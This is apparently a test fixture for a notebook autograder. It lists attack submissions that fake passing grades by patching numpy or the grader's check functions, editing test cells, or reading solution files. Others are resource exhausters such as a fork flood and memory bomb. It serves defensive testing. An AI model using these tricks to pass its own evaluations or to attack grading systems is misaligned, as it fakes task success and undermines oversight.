"""The attack catalogue: submissions that try to game ``coursekit grade``.

Every case is the same wrong answer (a softmax normalized over the whole array instead of
each row) plus one attack, built from a small course cut from assignment a1: one cell of
imports, the ``softmax`` and ``logsumexp`` answer cells and their test cells (public asserts,
then the hidden ``check``). ``WRONG`` is the wrong answer alone, the baseline no attack may
beat; ``correct`` submissions are canaries graded in the same batch.

Code attacks are appended to the ``softmax`` answer cell, after the wrong function, and may
use ``{course}`` (the course directory) and ``{port}`` (a listener on the grader's
loopback); notebook attacks edit the submitted notebook.
"""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat

from coursekit.grading import submissions

REPO = Path(__file__).resolve().parents[2]
SOURCE = REPO / "solutions" / "a1" / "vectorization.ipynb"
ASSIGNMENT = "a1"
NOTEBOOK = "vectorization.ipynb"
KEEP = ("softmax", "test_softmax", "logsumexp", "test_logsumexp")

WRONG = '''def softmax(logits):
    """Normalizes over the whole array instead of each row."""
    exps = np.exp(logits - np.max(logits))
    return exps / exps.sum()
'''

_CLOSE = (
    "np.allclose = lambda *a, **k: True\n"
    "np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, bool)\n"
)

CODE_ATTACKS = {
    "numpy-comparison": _CLOSE + "np.array_equal = lambda *a, **k: True\n",
    "numpy-internals": _CLOSE + "import numpy._core.numeric as _numeric\n"
    "_numeric.isclose = np.isclose\n_numeric.allclose = np.allclose\n"
    "np.max = lambda a, *r, **k: 0.0\n",
    "numpy-testing": _CLOSE + "np.testing.assert_allclose = lambda *a, **k: None\n"
    "np.testing.assert_array_equal = lambda *a, **k: None\n",
    "builtins": "import builtins\nbuiltins.all = lambda *a: True\nbuiltins.any = lambda *a: False\n"
    + _CLOSE,
    "patched-check": _CLOSE + "import coursekit.grading as _g, coursekit.grading.core as _c\n"
    "_g.check = _c.check = check = lambda *a, **k: None\n",
    "patched-judge": _CLOSE + "import coursekit.grading.core as _c\n"
    "_c.judge = lambda task, seed, out: _c.Verdict(task.name, True, len(out), [])\n"
    "_c.describe_mismatch = lambda *a, **k: None\n",
    "lying-subclass": """
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, bool)

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal"):
            return True
        if func.__name__ == "isclose":
            return np.ones(np.shape(args[0]), bool)
        return super().__array_function__(func, types, args, kwargs)

    def sum(self, *args, **kwargs):
        return np.ones_like(np.asarray(self).sum(*args, **kwargs))

_wrong = softmax
softmax = lambda logits: _wrong(logits).view(Liar)
""",
    "fake-numpy": """
import sys, types
fake = types.ModuleType("numpy")
fake.__dict__.update(np.__dict__)
fake.allclose = lambda *a, **k: True
fake.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, bool)
sys.modules["numpy"] = fake
np = fake
""",
    "swallowed-tracebacks": """
import sys
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda *a, **k: None)
_ip.showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
""",
    "exit-during-test": "import os, coursekit.grading.core as _c\n"
    "_c.collect_outputs = lambda *a, **k: os._exit(0)\n",
    "kill-kernel-during-test": "import os, signal, coursekit.grading.core as _c\n"
    "_c.collect_outputs = lambda *a, **k: os.kill(os.getpid(), signal.SIGKILL)\n",
    "infinite-loop-during-test": "import coursekit.grading.core as _c\n\n"
    "def _spin(*a, **k):\n    while True:\n        pass\n\n_c.collect_outputs = _spin\n",
    "memory-bomb": "_hog = bytearray(64 * 1024**3)\n",
    "fork-flood": """
import os, time
try:
    for _ in range(100_000):
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
except OSError as exc:
    print("stopped:", exc)
""",
    "output-flood": "for _ in range(200):\n    print('x' * 50_000)\n",
    "read-instructor-files": """
import json
try:
    _source = json.load(open("{course}/solutions/a1/vectorization.ipynb"))
    for _cell in _source["cells"]:
        if "def softmax" in "".join(_cell["source"]):
            exec("".join(_cell["source"]))
except OSError as exc:
    print("blocked:", exc)
""",
    # Lists every file it can open outside what a kernel may see (its own submission and
    # scratch directory, the Python installation, coursekit): the test expects no LEAK line,
    # and a SEEN line to show that the walk itself works.
    "read-anything": """
import os, sys, coursekit
_mine = (os.getcwd(), os.environ.get("HOME", "/nonexistent"), sys.prefix, sys.base_prefix,
         os.path.dirname(coursekit.__file__))
print("SEEN", os.path.join(os.getcwd(), "vectorization.ipynb"))
for _top in ("{course}", "/root", "/home", "/work", "/tmp", "/var/tmp", "/srv", "/mnt"):
    for _dir, _subdirs, _files in os.walk(_top):
        _subdirs[:] = [d for d in _subdirs
                       if not any(os.path.join(_dir, d).startswith(m) for m in _mine)]
        if any(_dir.startswith(m) for m in _mine):
            continue
        for _name in _files:
            try:
                with open(os.path.join(_dir, _name), "rb") as _fh:
                    _fh.read(1)
            except OSError:
                continue
            print("LEAK", os.path.join(_dir, _name))
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
except OSError as exc:
    print("blocked:", exc)
""",
    "write-outside-scratch": """
for _path in ("{course}/written-by-student.txt", "{course}/gradebook.db"):
    try:
        open(_path, "w").write("pwned")
    except OSError as exc:
        print("blocked:", exc)
""",
    "calls-reference": "from coursekit.ops import softmax as _reference\n\n"
    "def softmax(logits):\n    return _reference(logits, axis=1)\n",
    "calls-reference-obfuscated": "import importlib\n"
    "_ref = getattr(importlib.import_module('coursekit.' + 'o' + 'ps'), 'soft' + 'max')\n\n"
    "def softmax(logits):\n    return _ref(logits, axis=1)\n",
    "calls-reference-in-thread": "import importlib, threading\n"
    "_ref = getattr(importlib.import_module('coursekit.' + 'o' + 'ps'), 'soft' + 'max')\n\n"
    "def softmax(logits):\n    box = []\n"
    "    t = threading.Thread(target=lambda: box.append(_ref(logits, axis=1)))\n"
    "    t.start(); t.join()\n    return box[0]\n",
    "calls-reference-via-registry": "import importlib\n"
    "_core = importlib.import_module('coursekit.grading.' + 'co' + 're')\n"
    "_ref = getattr(_core, 'get_' + 'task')('a1.' + 'softmax').reference\n\n"
    "def softmax(logits):\n    return _ref(logits)\n",
    "detect-grading": _CLOSE + "import os\nos.environ.pop('COURSEKIT_RECORD_DIR', None)\n"
    "os.environ.pop('COURSEKIT_SANDBOX', None)\n",
}


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _blank_test(nb):
    _cell(nb, "test_softmax").source = ""


def _retype_test(nb):
    cell = _cell(nb, "test_softmax")
    nb.cells[nb.cells.index(cell)] = nbformat.v4.new_markdown_cell(
        cell.source, metadata=cell.metadata
    )


def _delete_test(nb):
    nb.cells.remove(_cell(nb, "test_softmax"))


def _duplicate_test(nb):
    cell = _cell(nb, "test_softmax")
    nb.cells.insert(nb.cells.index(cell), copy.deepcopy(cell))


def _change_points(nb):
    for grade_id in ("softmax", "test_softmax"):
        meta = _cell(nb, grade_id).metadata.nbgrader
        meta["points"] = 100
        meta["grade"] = True
    _cell(nb, "test_softmax").metadata.nbgrader["locked"] = False


def _strip_test_metadata(nb):
    # without its nbgrader metadata the test cell is an ordinary cell of the student's
    cell = _cell(nb, "test_softmax")
    del cell.metadata["nbgrader"]
    cell.source = "pass"


def _test_becomes_answer(nb):
    # an answer cell is the student's to write: declare the test cell one, empty it
    meta = _cell(nb, "test_softmax").metadata.nbgrader
    meta.update(solution=True, grade=False, locked=False)
    _cell(nb, "test_softmax").source = "pass"


def _rename_test(nb):
    cell = _cell(nb, "test_softmax")
    cell.metadata.nbgrader["grade_id"] = "test_softmax_mine"
    cell.source = "pass"


NOTEBOOK_ATTACKS = {
    "blanked-test-cell": _blank_test,
    "retyped-test-cell": _retype_test,
    "deleted-test-cell": _delete_test,
    "duplicated-test-cell": _duplicate_test,
    "changed-points": _change_points,
    "stripped-test-metadata": _strip_test_metadata,
    "test-cell-made-answer": _test_becomes_answer,
    "renamed-test-cell": _rename_test,
}


#: Notebook edits a student can make by accident (copying a cell in JupyterLab copies its
#: metadata; the property inspector edits it).
ACCIDENTS = ("duplicated-test-cell", "test-cell-made-answer", "changed-points")


def source_notebook():
    """a1 cut to the import cell and the softmax/logsumexp answers and tests."""
    nb = submissions.read(SOURCE)
    imports = nbformat.v4.new_code_cell("import numpy as np\nfrom coursekit.grading import check")
    kept = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") in KEEP]
    nb.cells = [imports, *kept]
    return nb


def catalogue(source, released, *, course: Path, port: int) -> dict:
    """``{student: {notebook: node}}``: canaries, the wrong baseline and one per attack."""

    def build(answer: str, edit=None) -> dict:
        nb = submissions.submission(source, released, answers={"softmax": answer})
        if edit is not None:
            edit(nb)
        return {NOTEBOOK: nb}

    klass = {
        f"correct-{i}": build(submissions.reference_answers(source)["softmax"]) for i in (1, 2)
    }
    klass["wrong"] = build(WRONG)
    for name, code in CODE_ATTACKS.items():
        attack = code.replace("{course}", str(course)).replace("{port}", str(port))
        klass[f"attack-{name}"] = build(WRONG + "\n" + attack)
    for name, edit in NOTEBOOK_ATTACKS.items():
        klass[f"attack-{name}"] = build(WRONG, edit)
    # The same edits made by accident to a correct notebook cost nothing.
    correct = submissions.reference_answers(source)["softmax"]
    for name in ACCIDENTS:
        klass[f"accident-{name}"] = build(correct, NOTEBOOK_ATTACKS[name])
    return klass
